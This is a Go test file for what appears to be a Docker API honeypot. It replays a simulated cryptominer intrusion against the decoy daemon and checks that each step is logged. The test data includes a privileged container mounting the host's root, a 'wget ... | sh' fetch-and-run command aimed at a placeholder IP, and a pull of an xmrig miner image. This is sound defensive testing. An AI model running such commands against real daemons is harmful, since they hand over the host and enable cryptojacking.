package dockerapi

import (
	"strings"
	"testing"

	"decnet/internal/event"
	"decnet/internal/testutil"
)

// TestDockerCLI drives the real docker client through what a cryptominer
// campaign does against an exposed daemon: recon, a privileged container
// with the host's root mounted, exec, pull, logs, kill and rm.
func TestDockerCLI(t *testing.T) {
	d := start(t, "127.0.106.10", nil)
	host := "tcp://" + d.plain
	run := func(args ...string) string {
		t.Helper()
		out, err := dockerCLI(t, nil, append([]string{"-H", host}, args...)...)
		if err != nil {
			t.Fatalf("docker %s: %v\n%s", strings.Join(args, " "), err, out)
		}
		return out
	}

	if out := run("version"); !contains(out, "24.0.5", "1.43 (minimum version 1.12)", "go1.20.6", "Docker Engine - Community", "containerd", "1.6.22") {
		t.Errorf("version:\n%s", out)
	}
	if out := run("ps"); !contains(out, "nginx:latest", "webapp", "postgres:15", "0.0.0.0:8080->80/tcp", "Up ") {
		t.Errorf("ps:\n%s", out)
	}
	if out := run("info"); !contains(out, "Server Version: 24.0.5", "Operating System: Ubuntu 22.04.2 LTS", "Running: 3", "Storage Driver: overlay2") {
		t.Errorf("info:\n%s", out)
	}
	out := run("run", "-d", "--privileged", "-v", "/:/host", "--name", "miner", "alpine", "sh", "-c", "wget -qO- http://198.51.100.7/x.sh | sh")
	id := strings.TrimSpace(out[strings.LastIndex(strings.TrimSpace(out), "\n")+1:])
	if len(id) != 64 {
		t.Fatalf("run -d printed %q, want a container ID", out)
	}
	if len(commands(d.ev, "image_pull")) == 0 {
		t.Errorf("the pull of alpine was not recorded")
	}
	creates := commands(d.ev, "container_create")
	var ok bool
	for _, e := range creates {
		f := e.Fields
		if f["container_id"] == id && f["image"] == "alpine" && f["privileged"] == "true" && strings.Contains(f["binds"], `"/:/host"`) &&
			strings.Contains(f["cmd"], "wget -qO- http://198.51.100.7/x.sh | sh") && e.Severity == event.Alert {
			ok = true
		}
	}
	if !ok {
		t.Errorf("container create not recorded in full: %v", creates)
	}
	if len(commands(d.ev, "container_start")) == 0 {
		t.Error("start not recorded")
	}
	if out := run("exec", "miner", "id"); !strings.Contains(out, "uid=0(root)") {
		t.Errorf("exec id printed %q", out)
	}
	if out := run("exec", id[:12], "sh", "-c", "echo pwned; uname -a"); !contains(out, "pwned\n", "Linux "+id[:12]) {
		t.Errorf("exec sh -c printed %q", out)
	}
	execs := commands(d.ev, "exec_create")
	if len(execs) != 2 || execs[1].Fields[event.FieldCommand] != "sh -c echo pwned; uname -a" {
		t.Errorf("exec commands: %v", execs)
	}
	if out := run("pull", "xmrig/xmrig:latest"); !contains(out, "Pulling from xmrig/xmrig", "Status: Downloaded newer image for xmrig/xmrig:latest") {
		t.Errorf("pull:\n%s", out)
	}
	if out := run("images"); !contains(out, "xmrig/xmrig", "alpine", "nginx") {
		t.Errorf("images:\n%s", out)
	}
	if out := run("logs", "webapp"); !strings.Contains(out, "Configuration complete; ready for start up") {
		t.Errorf("logs:\n%s", out)
	}
	if out := run("ps", "-a"); !contains(out, "miner", "Up ") {
		t.Errorf("ps -a:\n%s", out)
	}
	run("kill", "miner")
	run("rm", "miner")
	if out := run("ps", "-a"); strings.Contains(out, "miner") {
		t.Errorf("miner still listed after rm:\n%s", out)
	}
	for _, a := range []string{"container_kill", "container_delete"} {
		if len(commands(d.ev, a)) == 0 {
			t.Errorf("%s not recorded", a)
		}
	}
	// docker run without -d attaches and waits for the exit.
	if out := run("run", "--rm", "alpine", "cat", "/etc/os-release"); !strings.Contains(out, "Alpine Linux") {
		t.Errorf("run attached printed %q", out)
	}
	for _, e := range d.ev.OfType(event.TypeRequest) {
		if strings.HasPrefix(e.Fields["user_agent"], "Docker-Client/") {
			return
		}
	}
	t.Error("no request event carries the CLI's User-Agent")
}

// TestDockerCLIInteractive types into `docker exec -i ... sh`: every line
// is recorded as a command.
func TestDockerCLIInteractive(t *testing.T) {
	d := start(t, "127.0.106.11", nil)
	out, err := dockerCLIInput(t, "id\ncat /etc/hostname\nexit\n", "-H", "tcp://"+d.plain, "exec", "-i", "webapp", "sh")
	if err != nil {
		t.Fatalf("exec -i: %v\n%s", err, out)
	}
	if !strings.Contains(out, "uid=0(root)") {
		t.Errorf("exec -i printed %q", out)
	}
	testutil.Eventually(t, "the typed lines", func() bool {
		lines := commands(d.ev, "exec_stdin")
		return len(lines) >= 2 && lines[0].Fields[event.FieldCommand] == "id" && lines[1].Fields[event.FieldCommand] == "cat /etc/hostname"
	})
}
